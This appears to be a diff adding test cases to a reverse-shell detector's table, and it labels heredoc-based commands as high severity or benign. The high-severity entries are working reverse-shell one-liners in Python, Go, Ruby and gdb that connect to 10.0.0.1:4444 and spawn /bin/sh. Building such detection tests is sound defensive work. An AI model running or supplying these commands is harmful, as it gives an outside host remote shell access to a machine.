@@ -46,6 +46,14 @@ SHELL_CHANNELS = [
      "cmd:=exec.Command(\"/bin/sh\");cmd.Stdin=c;cmd.Stdout=c;cmd.Run()}' > /tmp/t.go && go run /tmp/t.go", "high"),
     ("printf 'import socket,os,pty\\ns=socket.socket()\\ns.connect((\"10.0.0.1\",4444))\\nos.dup2(s.fileno(),0)\\n"
      "pty.spawn(\"/bin/sh\")\\n' > /tmp/u.py; python3 /tmp/u.py", "high"),
+    # a heredoc written into a file by cat or tee, then run or built by a later command
+    ("cat > /tmp/r.py <<'EOF'\nimport socket,os,pty\ns=socket.socket()\ns.connect((\"10.0.0.1\",4444))\n"
+     "os.dup2(s.fileno(),0)\npty.spawn(\"/bin/sh\")\nEOF\npython3 /tmp/r.py", "high"),
+    ("cat <<'EOF' > /tmp/r.go\npackage main\nimport (\"net\";\"os/exec\")\nfunc main(){c,_:=net.Dial(\"tcp\","
+     "\"10.0.0.1:4444\");cmd:=exec.Command(\"/bin/sh\");cmd.Stdin=c;cmd.Stdout=c;cmd.Run()}\nEOF\ngo run /tmp/r.go",
+     "high"),
+    ("tee /tmp/r.rb <<'EOF'\nrequire 'socket'\ns=TCPSocket.new('10.0.0.1',4444)\nwhile l=s.gets; s.print `#{l}`; end"
+     "\nEOF\nruby /tmp/r.rb", "high"),
     # code given in any program's arguments, or fed to one: a debugger's, an image editor's, Nashorn's
     ("gdb -nx -ex 'python import socket,os,pty;s=socket.socket();s.connect((\"10.0.0.1\",4444));"
      "[os.dup2(s.fileno(),fd) for fd in (0,1,2)];pty.spawn(\"/bin/sh\")' -ex quit", "high"),
@@ -81,6 +89,8 @@ SHELL_CHANNELS = [
     ("echo 'package main; func main(){ println(\"hi\") }' > hi.go && go run hi.go", None),
     ("websocat ws://localhost:8080/echo", None),
     ("rcat listen 55600", None),
+    ("cat > /tmp/c.py <<'EOF'\nimport socket\nprint(socket.gethostname())\nEOF\npython3 /tmp/c.py", None),
+    ("cat > notes.txt <<'EOF'\nsocket timeout and /bin/sh notes\nEOF\ncat notes.txt", None),
     ("gdb -ex 'python print(1+1)' -ex quit ./a.out", None),
     ("curl --unix-socket /var/run/docker.sock http://localhost/containers/json", None),
     ("openssl s_server -key key.pem -cert cert.pem -www -port 8443", None),
